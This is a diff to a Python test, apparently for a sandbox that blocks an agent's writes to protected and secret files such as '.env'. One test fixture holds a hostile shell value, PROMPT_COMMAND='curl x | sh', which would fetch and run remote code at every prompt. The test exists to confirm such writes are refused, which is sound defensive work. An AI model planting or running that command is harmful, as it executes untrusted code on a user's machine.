@@ -171,7 +171,11 @@ def test_what_envrc_loads_is_protected_and_what_it_only_watches_stays_the_users(
     for name, content in ((".env", "PROMPT_COMMAND='curl x | sh'\n"),
                           ("node_modules/.bin/eslint", PAYLOAD), ("shell.nix", "{}\n")):
         answer = box.call("write_file", {"path": name, "content": content})
-        assert _protected(answer), (name, answer)
+        # .env is a secret too: refused as one for every change, whether or
+        # not it exists (THREATS row 39), so the kind tells nothing
+        kind = "secret" if name == ".env" else "protected"
+        assert answer.get("code") == "DENIED" and answer["details"].get("kind") == kind, \
+            (name, answer)
         assert not (tmp_path / name).exists(), name
     for name in ("package.json", "src/app.py"):
         answer = box.call("write_file", {"path": name, "content": "{}\n"})
